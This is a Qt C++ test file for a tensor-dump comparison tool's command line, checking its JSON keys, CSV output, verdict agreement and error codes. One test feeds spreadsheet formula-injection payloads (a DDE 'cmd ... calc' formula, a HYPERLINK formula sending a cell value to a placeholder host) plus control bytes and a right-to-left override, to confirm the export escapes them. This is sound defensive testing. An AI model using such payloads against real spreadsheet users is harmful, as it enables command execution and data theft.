// twinscope-cli dumps: exit codes, the documented JSON keys, the CSV file; the same verdicts in the
// JSON summary, its rows, its steps[] and the compare CSV.
#include "core/dump/resulttable.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryDir>
#include <QtTest>

using namespace Qt::StringLiterals;

class TestCmdDumps : public QObject
{
    Q_OBJECT

private:
    struct Run
    {
        int exit = -1;
        QByteArray out, err;
    };
    static Run run(const QStringList &args)
    {
        QProcess p;
        p.start(QStringLiteral(TWINSCOPE_CLI), QStringList{u"dumps"_s} + args);
        p.waitForFinished(120000);
        return {p.exitCode(), p.readAllStandardOutput(), p.readAllStandardError()};
    }
    static QString pair(const QString &f)
    {
        return QStringLiteral(TWINSCOPE_TEST_DATA "/dump/pairs/") + f;
    }

private slots:
    void json()
    {
        QTemporaryDir tmp;
        const QString csv = tmp.filePath(u"out.csv"_s);
        const Run r = run({u"--json"_s,
                           u"--kl"_s,
                           u"--csv"_s,
                           csv,
                           pair(u"dumper/bench.h5"_s),
                           pair(u"dumper/npu.h5"_s)});
        QCOMPARE(r.exit, 0);
        const QJsonObject o = QJsonDocument::fromJson(r.out).object();
        QCOMPARE(o.value(u"schemaVersion"_s).toInt(), 1);
        QCOMPARE(o.value(u"pairs"_s).toInt(), 83);
        QVERIFY(o.value(u"unmatched_bench"_s).isArray() && o.value(u"unmatched_npu"_s).isArray());
        const QJsonObject first = o.value(u"first_divergent"_s).toObject();
        QCOMPARE(first.value(u"name"_s).toString(), u"softmax_int/5/output/result"_s);
        QCOMPARE(first.value(u"index"_s).toInt(), 15);
        QCOMPARE(first.value(u"kind"_s).toString(), u"origin"_s);
        QVERIFY(first.value(u"cosine"_s).toDouble() < 0.99);
        QVERIFY(first.value(u"max_abs_err"_s).toDouble() > 0);
        QCOMPARE(o.value(u"nan_origin"_s).toObject().value(u"name"_s).toString(),
                 u"softmax_int/17/output/result"_s);
        QCOMPARE(o.value(u"nan_origin"_s).toObject().value(u"index"_s).toInt(), 55);
        const QJsonArray tensors = o.value(u"tensors"_s).toArray();
        QCOMPARE(tensors.size(), 83);
        for (const char *key : {"name",
                                "index",
                                "shape",
                                "dtype",
                                "cosine",
                                "max_abs_err",
                                "max_rel_err",
                                "mean_abs_err",
                                "rmse",
                                "rel_euclidean",
                                "one_thousandth_ratio",
                                "five_thousandth_ratio",
                                "nan_npu",
                                "inf_npu",
                                "nan_bench",
                                "inf_bench",
                                "verdict"})
            QVERIFY2(tensors.first().toObject().contains(QLatin1String(key)), key);
        QCOMPARE(tensors[55].toObject().value(u"nan_npu"_s).toInt(), 1);
        QVERIFY(tensors[15].toObject().value(u"kl"_s).toDouble() > 0); // the planted divergence
        QVERIFY(tensors[55].toObject().value(u"kl"_s).isNull());       // NaN positions differ
        QCOMPARE(tensors[55].toObject().value(u"verdict"_s).toString(), u"error"_s);
        QFile f(csv);
        QVERIFY(f.open(QIODevice::ReadOnly));
        QVERIFY(f.readLine().startsWith("NPU Name,Bench Name,"));
    }

    // One conclusion everywhere (issue #12): the counts, steps[] and first divergent tensor of the
    // JSON derive from the same per-row verdicts as the CSV's Result (statistics) or Accuracy
    // Reached (tensor) column, row by row, on msprobe's own dumps of a planted weight change.
    void verdictsAgreeAcrossOutputs_data()
    {
        QTest::addColumn<QString>("mode");
        QTest::newRow("tensor") << u"tensor"_s;
        QTest::newRow("statistics") << u"statistics"_s;
    }
    void verdictsAgreeAcrossOutputs()
    {
        QFETCH(QString, mode);
        const QString base = QStringLiteral(TWINSCOPE_TEST_DATA "/dump/msprobe_planted/") + mode;
        QTemporaryDir tmp;
        const QString csv = tmp.filePath(u"out.csv"_s);
        const Run r = run({u"--json"_s, u"--csv"_s, csv, base + u"/bench"_s, base + u"/weight"_s});
        QCOMPARE(r.exit, 0);
        const QJsonObject o = QJsonDocument::fromJson(r.out).object();
        QCOMPARE(o.value(u"run"_s).toString(), u"step0/rank"_s);
        const QJsonArray tensors = o.value(u"tensors"_s).toArray();
        QHash<QString, int> counts;
        for (const auto &t : tensors)
            ++counts[t.toObject().value(u"verdict"_s).toString()];
        const QJsonObject verdicts = o.value(u"verdicts"_s).toObject();
        for (const QString &v : {u"pass"_s, u"warning"_s, u"error"_s})
            QCOMPARE(counts.value(v), verdicts.value(v).toInt());
        const QJsonObject step0 = o.value(u"steps"_s).toArray().first().toObject();
        QCOMPARE(step0.value(u"errors"_s).toInt(), verdicts.value(u"error"_s).toInt());
        QCOMPARE(step0.value(u"warnings"_s).toInt(), verdicts.value(u"warning"_s).toInt());
        const QJsonObject first = o.value(u"first_divergent"_s).toObject();
        QCOMPARE(step0.value(u"first_divergent"_s).toObject().value(u"name"_s),
                 first.value(u"name"_s));
        const int firstIndex = first.value(u"index"_s).toInt();
        QVERIFY(tensors[firstIndex].toObject().value(u"divergent"_s).toBool());
        for (int i = 0; i < firstIndex; ++i)
            QVERIFY(!tensors[i].toObject().value(u"divergent"_s).toBool());

        QFile f(csv);
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QByteArray text = f.readAll();
        Twinscope::Core::Error error;
        const auto table =
            Twinscope::Core::readCsvTable(std::string_view(text.constData(), size_t(text.size())),
                                          csv,
                                          Twinscope::Core::CancelToken(),
                                          &error);
        QVERIFY(table);
        QCOMPARE(table->rows.size(), tensors.size());
        const int name = table->column(u"NPU Name"_s);
        const int result = table->column(u"Result"_s);
        const int accuracy = table->column(u"Accuracy Reached or Not"_s);
        QVERIFY(name >= 0 && (mode == u"statistics"_s ? result >= 0 : accuracy >= 0));
        for (qsizetype i = 0; i < tensors.size(); ++i) {
            const QJsonObject t = tensors[i].toObject();
            const QStringList &row = table->rows[i];
            QVERIFY(t.value(u"name"_s).toString().startsWith(row[name]));
            const QString verdict = t.value(u"verdict"_s).toString();
            if (mode == u"statistics"_s) {
                const QString expected = verdict == u"error"_s     ? u"error"_s
                                         : verdict == u"warning"_s ? u"Warning"_s
                                                                   : QString();
                QCOMPARE(row[result], expected);
            } else {
                QCOMPARE(row[accuracy], t.value(u"accuracy"_s).toString());
                if (row[accuracy] == u"No"_s) // msprobe's accuracy rule fails: an error here
                    QCOMPARE(verdict, u"error"_s);
            }
        }
        // The CSV opened as a compare result gives back every row's verdict and the same first
        // divergent tensor.
        const Run back = run({u"--json"_s, csv});
        QCOMPARE(back.exit, 0);
        const QJsonObject b = QJsonDocument::fromJson(back.out).object();
        QCOMPARE(b.value(u"verdicts"_s).toObject(), verdicts);
        const QJsonArray backTensors = b.value(u"tensors"_s).toArray();
        QCOMPARE(backTensors.size(), tensors.size());
        for (qsizetype i = 0; i < tensors.size(); ++i)
            QCOMPARE(backTensors[i].toObject().value(u"verdict"_s),
                     tensors[i].toObject().value(u"verdict"_s));
        QCOMPARE(b.value(u"first_divergent"_s).toObject().value(u"index"_s),
                 first.value(u"index"_s));
    }

    void statisticsPairHasNullTensorMetrics()
    {
        const Run r = run(
            {u"--json"_s, pair(u"msprobe_statistics/bench"_s), pair(u"msprobe_statistics/npu"_s)});
        QCOMPARE(r.exit, 0);
        const QJsonObject o = QJsonDocument::fromJson(r.out).object();
        QVERIFY(o.value(u"statistics_mode"_s).toBool());
        QCOMPARE(o.value(u"first_divergent"_s).toObject().value(u"name"_s).toString(),
                 u"Functional.softmax.0.forward.output.0"_s);
        QVERIFY(o.value(u"first_divergent"_s).toObject().value(u"cosine"_s).isNull());
    }

    // Issue #30: statistics-mode rows of an imported compare result keep no metrics box; the
    // file's MaxRelativeErr still reaches the JSON (from the row's statistics differences), the
    // same number the exported CSV writes in its MaxRelativeErr column.
    void importedStatisticsKeepMaxRelativeErr()
    {
        QTemporaryDir tmp;
        const QString input = tmp.filePath(u"statistics_result.csv"_s);
        QFile in(input);
        QVERIFY(in.open(QIODevice::WriteOnly));
        in.write("NPU Name,Bench Name,NPU Dtype,Bench Dtype,NPU Tensor Shape,Bench Tensor Shape,"
                 "Max diff,Min diff,Mean diff,L2norm diff,MaxRelativeErr,MinRelativeErr,"
                 "MeanRelativeErr,NormRelativeErr,NPU max,NPU min,NPU mean,NPU l2norm,Bench max,"
                 "Bench min,Bench mean,Bench l2norm,Result,Err_message\n"
                 "a.0.forward.output.0,a.0.forward.output.0,torch.float32,torch.float32,[2],[2],"
                 "0.25,0,0,0,12.5%,0%,0%,0%,2.25,-1,0.5,3,2,-1,0.5,3,,\n"
                 "b.0.forward.output.0,b.0.forward.output.0,torch.float32,torch.float32,[2],[2],"
                 "0,0,0,0,N/A,0%,0%,0%,1,-1,0,1,1,-1,0,1,,\n");
        in.close();
        const QString csv = tmp.filePath(u"out.csv"_s);
        const Run r = run({u"--json"_s, u"--csv"_s, csv, input});
        QCOMPARE(r.exit, 0);
        const QJsonObject o = QJsonDocument::fromJson(r.out).object();
        QVERIFY(o.value(u"statistics_mode"_s).toBool());
        const QJsonArray tensors = o.value(u"tensors"_s).toArray();
        QCOMPARE(tensors.size(), 2);
        QCOMPARE(tensors[0].toObject().value(u"max_rel_err"_s).toDouble(), 0.125);
        QVERIFY(tensors[1].toObject().value(u"max_rel_err"_s).isNull()); // N/A in the file
        QCOMPARE(tensors[0].toObject().value(u"npu_stats"_s).toObject().value(u"max"_s).toDouble(),
                 2.25);
        QFile f(csv);
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QList<QByteArray> lines = f.readAll().split('\n');
        const int column = lines[0].split(',').indexOf("MaxRelativeErr");
        QVERIFY(column >= 0);
        QVERIFY2(lines[1].split(',').value(column).startsWith("12.5"), lines[1].constData());
    }

    // Issue #31: a compare result whose names are spreadsheet formulas, or carry ESC/BEL and a
    // right-to-left override, exported again with --csv: no cell of the file starts with a
    // formula character unescaped, no control byte is in it, and negative numbers stay numbers.
    void csvCellsAreInert()
    {
        QTemporaryDir tmp;
        const QStringList names = {u"=cmd|' /C calc'!A0"_s,
                                   u"=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")"_s,
                                   u"+SUM(1+1)"_s,
                                   u"-2+3"_s,
                                   u"@SUM(A1)"_s,
                                   u"\tTab.0.forward.input.0"_s,
                                   u"Esc\x1b[2J\x07.forward.input.0"_s,
                                   u"Rlo\u202Egpj.forward.input.0"_s};
        const QStringList header = {u"NPU Name"_s,
                                    u"Bench Name"_s,
                                    u"NPU Dtype"_s,
                                    u"Bench Dtype"_s,
                                    u"NPU Tensor Shape"_s,
                                    u"Bench Tensor Shape"_s,
                                    u"Cosine"_s,
                                    u"MaxAbsErr"_s,
                                    u"NPU max"_s,
                                    u"NPU min"_s,
                                    u"NPU mean"_s,
                                    u"Bench max"_s,
                                    u"Bench min"_s,
                                    u"Bench mean"_s,
                                    u"Accuracy Reached or Not"_s,
                                    u"Err_message"_s};
        QByteArray in = header.join(u',').toUtf8() + '\n';
        for (const QString &n : names) {
            const QString q = u'"' + QString(n).replace(u"\""_s, u"\"\""_s) + u'"';
            in += (QStringList{q,
                               q,
                               u"torch.float32"_s,
                               u"torch.float32"_s,
                               u"\"[3, 2]\""_s,
                               u"\"[3, 2]\""_s,
                               u"1"_s,
                               u"0"_s,
                               u"1.5"_s,
                               u"-1.5"_s,
                               u"-0.25"_s,
                               u"1.5"_s,
                               u"-1.5"_s,
                               u"-0.25"_s,
                               u"Yes"_s,
                               QString()}
                       .join(u','))
                      .toUtf8() +
                  '\n';
        }
        const QString input = tmp.filePath(u"compare_result_hostile.csv"_s);
        QFile inFile(input);
        QVERIFY(inFile.open(QIODevice::WriteOnly));
        inFile.write(in);
        inFile.close();
        const QString csv = tmp.filePath(u"out.csv"_s);
        const Run r = run({u"--json"_s, u"--csv"_s, csv, input});
        QCOMPARE(r.exit, 0);
        QCOMPARE(QJsonDocument::fromJson(r.out).object().value(u"pairs"_s).toInt(),
                 int(names.size()));
        for (const QByteArray &stream : {r.out, r.err})
            QVERIFY2(!stream.contains("\xe2\x80\xae") && !stream.contains('\x1b') &&
                         !stream.contains('\x07'),
                     stream.left(200).constData());

        QFile f(csv);
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QByteArray text = f.readAll();
        for (const char c : text)
            QVERIFY2(uchar(c) >= 0x20 || c == '\n', QByteArray::number(uchar(c)).constData());
        QVERIFY(!text.contains("\xe2\x80\xae"));
        Twinscope::Core::Error error;
        const auto table =
            Twinscope::Core::readCsvTable(std::string_view(text.constData(), size_t(text.size())),
                                          csv,
                                          Twinscope::Core::CancelToken(),
                                          &error);
        QVERIFY(table);
        QCOMPARE(table->rows.size(), names.size());
        int negatives = 0;
        for (const QStringList &row : table->rows) {
            for (const QString &cell : row) {
                if (cell.isEmpty())
                    continue;
                const QChar c = cell.front();
                bool number = false;
                cell.toDouble(&number);
                if (c == u'-' || c == u'+') {
                    QVERIFY2(number || cell == u"-inf"_s, qPrintable(cell));
                    ++negatives;
                } else {
                    QVERIFY2(c != u'=' && c != u'@', qPrintable(cell));
                }
            }
        }
        QVERIFY(negatives >= 4 * names.size()); // the mins and means kept their sign
        const int name = table->column(u"NPU Name"_s);
        QStringList exported;
        for (const QStringList &row : table->rows)
            exported << row[name];
        for (const QString &expected : {u"'=cmd|' /C calc'!A0"_s,
                                        u"'+SUM(1+1)"_s,
                                        u"'-2+3"_s,
                                        u"'@SUM(A1)"_s,
                                        u"Tab.0.forward.input.0"_s,
                                        u"Esc\\u001B[2J\\u0007.forward.input.0"_s,
                                        u"Rlo\\u202Egpj.forward.input.0"_s})
            QVERIFY2(exported.contains(expected), qPrintable(exported.join(u" | "_s)));
    }

    void errors_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<int>("exit");
        QTest::addColumn<QString>("stderr");
        QTest::newRow("three paths")
            << QStringList{pair(u"dumper/bench.h5"_s), pair(u"dumper/npu.h5"_s), pair(u"x"_s)} << 2
            << u"one path"_s;
        QTest::newRow("bad step") << QStringList{u"--step"_s,
                                                 u"-1"_s,
                                                 pair(u"dumper/bench.h5"_s),
                                                 pair(u"dumper/npu.h5"_s)}
                                  << 2 << u"--step"_s;
        QTest::newRow("result with a partner")
            << QStringList{QStringLiteral(
                               TWINSCOPE_TEST_DATA
                               "/dump/compare_result/msprobe833_tensor_weight_step0.xlsx"),
                           pair(u"dumper/npu.h5"_s)}
            << 3 << u"comparison already"_s;
        QTest::newRow("bad rtol") << QStringList{u"--rtol"_s,
                                                 u"x"_s,
                                                 pair(u"dumper/bench.h5"_s),
                                                 pair(u"dumper/npu.h5"_s)}
                                  << 2 << u"--rtol"_s;
        QTest::newRow("missing file")
            << QStringList{pair(u"dumper/nope.h5"_s), pair(u"dumper/npu.h5"_s)} << 3
            << u"nope.h5"_s;
        QTest::newRow("truncated npu")
            << QStringList{pair(u"dumper/bench.h5"_s),
                           QStringLiteral(TWINSCOPE_TEST_DATA "/dump/broken/truncated.h5")}
            << 3 << u"truncated.h5"_s;
        QTest::newRow("bad map") << QStringList{u"--map"_s,
                                                pair(u"dumper/truth.json"_s),
                                                pair(u"dumper/bench.h5"_s),
                                                pair(u"dumper/npu.h5"_s)}
                                 << 3 << u"truth.json"_s;
    }
    void errors()
    {
        QFETCH(QStringList, args);
        QFETCH(int, exit);
        QFETCH(QString, stderr);
        const Run r = run(args);
        QCOMPARE(r.exit, exit);
        QVERIFY2(QString::fromUtf8(r.err).contains(stderr), r.err.constData());
    }
};

QTEST_GUILESS_MAIN(TestCmdDumps)
#include "tst_cmddumps.moc"
